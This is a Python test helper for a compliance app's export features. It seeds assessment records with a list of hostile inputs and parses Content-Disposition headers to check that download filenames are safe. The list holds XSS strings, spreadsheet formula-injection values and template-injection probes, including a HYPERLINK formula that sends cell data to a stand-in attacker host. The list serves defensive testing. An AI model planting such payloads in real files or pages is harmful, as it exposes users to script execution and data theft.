"""Shared set-up for the POA&M, spreadsheet and assessment-file tests (not a test module)."""

import re
from datetime import date
from urllib.parse import unquote

from assessments.models import Answer, Assessment
from controls.models import Requirement

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "{{7*7}}",
    "{% raw %}",
    "]]>",
    "\u202eexe.txt",
    "emoji \U0001f600\U0001f4a5",
    "x" * 10_000,
    "vt\x0bhere",
    "\x1b[31mred",
    "bad\ufffechar",
    "\x0b=1",
    "plain text",
]
# PostgreSQL cannot store NUL, so this one only goes through the file writers directly.
NUL_FORMULA = "\x00=1"


def make(**fields) -> Assessment:
    return Assessment.objects.create(**({"organization_name": "Acme"} | fields))


def answer(assessment: Assessment, nist_id: str, **values) -> Answer:
    return Answer.objects.create(assessment=assessment, requirement=Requirement.objects.get(nist_id=nist_id),
                                 **values)


def hostile_assessment() -> Assessment:
    """Every hostile payload in every text column of the gap list (stored directly, as the admin could)."""
    assessment = make()
    ids = list(Requirement.objects.order_by("position").values_list("nist_id", flat=True))
    answer(assessment, "3.12.4", status="met")
    for index, payload in enumerate(HOSTILE):
        answer(assessment, ids[index], status="not_met", note=payload, evidence=payload[:500],
               responsible=payload[:200], planned_date=date(2030, 1, 1) if index % 2 else None)
    return assessment


# A Content-Disposition parameter: a token name, then a token or a quoted string (RFC 6266, RFC 9110).
DISPOSITION_PARAM = re.compile(r';\s*([!#$%&\'*+.^_`|~0-9A-Za-z-]+)\s*=\s*("(?:[^"\\]|\\.)*"|[^;\s]*)')


def disposition(value: str) -> tuple[str, dict[str, str]]:
    """A Content-Disposition header read as a client reads it: its type and parameters, ``filename*`` decoded
    (RFC 8187: charset'language'percent-encoded UTF-8)."""
    kind, _, rest = value.partition(";")
    params = {}
    for name, raw in DISPOSITION_PARAM.findall(";" + rest):
        name = name.lower()
        if name.endswith("*"):
            charset, _language, encoded = raw.split("'", 2)
            assert charset.lower() == "utf-8", raw
            params[name] = unquote(encoded, encoding="utf-8", errors="strict")
        elif raw.startswith('"'):
            params[name] = re.sub(r"\\(.)", r"\1", raw[1:-1])
        else:
            params[name] = raw
    return kind.strip().lower(), params


def saved_as(response) -> tuple[str, str]:
    """The name a browser saves an attachment as (``filename*`` first, RFC 6266 section 4.3), and the ASCII
    ``filename`` an older client uses."""
    header = response["Content-Disposition"]
    assert header.isascii() and "\r" not in header and "\n" not in header, header
    kind, params = disposition(header)
    assert kind == "attachment", header
    return params.get("filename*", params["filename"]), params["filename"]
